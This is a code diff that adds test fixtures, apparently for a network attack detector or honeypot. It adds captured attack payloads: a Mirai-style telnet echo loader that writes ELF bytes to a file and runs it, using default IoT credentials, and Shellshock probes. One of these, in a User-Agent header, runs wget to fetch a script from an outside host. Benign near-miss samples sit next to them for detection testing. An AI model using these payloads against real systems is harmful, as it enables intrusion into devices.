@@ -200,6 +200,21 @@ def samples() -> dict[str, bytes]:
         "telnet-mirai.server.bin": IAC_SERVER + b"\r\nlogin: Password: \r\n# \r\n# \r\n# \r\n# "
         b"\r\nECCHI: applet not found\r\n# ",
         "telnet-admin.bin": IAC_CLIENT + b"admin\r\nadmin\r\nls /tmp\r\n/bin/busybox ps\r\n",
+        # --- Mirai echo loader and Shellshock
+        "telnet-echo-loader.bin": IAC_CLIENT + b"root\r\nvizxv\r\nenable\r\nshell\r\nsh\r\n"
+        b"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .s\r\n"
+        b"/bin/busybox echo -ne '\\x02\\x00\\x28\\x00' >> .s\r\n./.s; rm .s\r\n",
+        "telnet-echo-text.bin": IAC_CLIENT + b"admin\r\nadmin\r\n"
+        b"echo -ne '\\x41\\x42\\x43' > note\r\necho 7f454c46 > magic\r\n",
+        "telnet-shellshock.bin": IAC_CLIENT + b"root\r\nroot\r\n"
+        b"env x='() { :;}; echo vulnerable' bash -c 'echo test'\r\n",
+        "telnet-shell-function.bin": IAC_CLIENT + b"root\r\nroot\r\n"
+        b"f() { uname -a; }; f\r\n",
+        "shellshock-user-agent.http": get(
+            "/cgi-bin/status", ua="() { :; }; /bin/bash -c 'wget http://198.51.100.7/x.sh'"),
+        "shellshock-near-miss.http": form(
+            "/cgi-bin/app.cgi", "code=function%20f()%20{%20return%201;%20};",
+            ua="Mozilla/5.0 (X11; Linux x86_64) { }"),
         # --- transport shapes
         "pipelined-chunked.http": get("/HNAP1/", host="203.0.113.9") + (
             b"POST /ping.cgi HTTP/1.1\r\nHost: 203.0.113.8\r\nTransfer-Encoding: chunked\r\n\r\n"
